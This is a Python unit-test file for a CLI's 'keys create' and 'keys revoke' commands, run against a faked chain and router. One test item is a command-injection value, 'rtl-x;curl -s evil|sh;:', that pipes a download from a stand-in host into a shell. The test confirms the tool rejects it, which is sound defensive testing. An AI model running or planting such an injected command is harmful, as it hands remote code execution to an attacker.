"""`retally keys`: a key ends on chain whatever its router does, and nothing of a router's answer reaches a shell."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from tests.fakes_market import DOMAIN
from tests.unit.test_cli import Shell

from retally.cli import keys
from retally.cli.session import Session
from retally.errors import RemoteError, RetallyError, Unavailable
from retally.protocol.eip712 import SigningKey
from retally.protocol.encoding import to_hex
from retally.protocol.voucher import SignerAuth

PAYER, SIGNER, OTHER = (SigningKey(bytes(31) + bytes([number])) for number in (1, 2, 3))
GOOD = "rtl-0123456789abcdef-" + "x" * 43


class Escrow:
    """What of it these commands use; calls are told as tuples."""

    async def signer(self, _: str, signer: str) -> Any:
        return SimpleNamespace(cap=1, used=0, expiry=0 if signer.endswith("00") else 9)

    def authorize_signer(self, auth: SignerAuth, _: bytes) -> tuple[str, str]:
        return "authorise", auth.signer

    def revoke_signer(self, signer: str) -> tuple[str, str]:
        return "revoke", signer


class World:
    """A chain that takes every call, and a router that does what a test wants."""

    def __init__(self, shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
        self.shell = shell
        self.sent: list[tuple[str, str]] = []
        self.api_key, self.key_id, self.signer = GOOD, "k1", SIGNER
        self.listed: list[dict[str, Any]] = []
        self.fails: RetallyError | None = None
        chain = SimpleNamespace(domain=DOMAIN, escrow=Escrow(), clock=SimpleNamespace(now=lambda: 1_800_000_000))

        @asynccontextmanager
        async def opened(_: Session) -> AsyncIterator[Any]:
            yield chain

        async def send(call: tuple[str, str]) -> Any:
            self.sent.append(call)
            return SimpleNamespace(tx_hash="0x1")

        shell.set(ROUTER_URL="http://router")
        monkeypatch.setattr(Session, "chain", opened)
        monkeypatch.setattr(Session, "key", lambda _: PAYER)
        monkeypatch.setattr(Session, "router", lambda _, *args, **options: self.router(*args, **options))
        monkeypatch.setattr(keys, "sender_of", lambda *_: SimpleNamespace(send=send))

    def router(self, method: str, _: str, json: Any = None, headers: Any = None) -> Any:
        if self.fails is not None:
            raise self.fails
        if method != "POST":
            return {"keys": self.listed}
        auth = SignerAuth(PAYER.address, self.signer.address, int(json["cap"]), json["expiry"], json["deadline"])
        proof = to_hex(self.signer.sign(auth.digest(DOMAIN)))
        return {"apiKey": self.api_key, "keyId": self.key_id, "signer": self.signer.address, "proof": proof}


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
    return World(Shell(tmp_path / "home", monkeypatch), monkeypatch)


class TestCreate:
    @pytest.mark.parametrize("api_key", ["rtl-x;curl -s evil|sh;:", GOOD + "\n", "sk-" + "x" * 40, None])
    def test_refuses_what_is_no_key_before_it_is_authorised(self, world: World, api_key: Any) -> None:
        world.api_key = api_key
        assert world.shell.json("keys", "create", code=1)["error"]["code"] == "unreadable_answer"
        assert world.sent == []

    def test_shows_a_line_to_paste(self, world: World) -> None:
        world.shell.set(ROUTER_URL="http://router/;x")
        assert f"export OPENAI_API_KEY={GOOD} OPENAI_BASE_URL='http://router/;x/v1'" in world.shell.run(
            "keys", "create"
        )

    def test_refuses_an_id_of_another_key(self, world: World) -> None:
        world.shell.json("keys", "create")
        world.signer = OTHER
        assert world.shell.json("keys", "create", code=1)["error"]["code"] == "key_id_taken"


class TestRevoke:
    @pytest.mark.parametrize("fails", [Unavailable("dead"), RemoteError(500, "x", "no"), None])
    @pytest.mark.parametrize("name", [lambda: "k1", lambda: SIGNER.address])
    def test_needs_no_router(self, world: World, fails: RetallyError | None, name: Callable[[], str]) -> None:
        world.shell.json("keys", "create")
        world.fails = fails
        world.listed = [{"keyId": "k1", "payer": PAYER.address, "signer": OTHER.address}]
        done = world.shell.json("keys", "revoke", name())
        assert world.sent[1:] == [("revoke", SIGNER.address)]
        assert done["forgotten"] is (fails is None)

    def test_by_address_of_a_key_that_was_made_elsewhere(self, world: World) -> None:
        world.fails = Unavailable("dead")
        world.shell.json("keys", "revoke", OTHER.address)
        assert world.sent == [("revoke", OTHER.address)]

    def test_takes_the_router_s_word_for_one_that_was_made_elsewhere(self, world: World) -> None:
        world.listed = [{"keyId": "k2", "payer": PAYER.address, "signer": OTHER.address}]
        world.shell.json("keys", "revoke", "k2")
        assert world.sent == [("revoke", OTHER.address)]

    def test_refuses_the_signer_of_another_key(self, world: World) -> None:
        world.shell.json("keys", "create")
        world.listed = [{"keyId": "k2", "payer": PAYER.address, "signer": SIGNER.address}]
        assert "k1" in world.shell.json("keys", "revoke", "k2", code=1)["error"]["message"]
        assert len(world.sent) == 1

    def test_a_dead_router_points_to_the_address(self, world: World) -> None:
        world.fails = Unavailable("dead")
        assert "address" in world.shell.json("keys", "revoke", "k2", code=1)["error"]["hint"]

    def test_nobody_s_signer_is_3(self, world: World) -> None:
        world.shell.json("keys", "revoke", "0x" + "00" * 20, code=3)
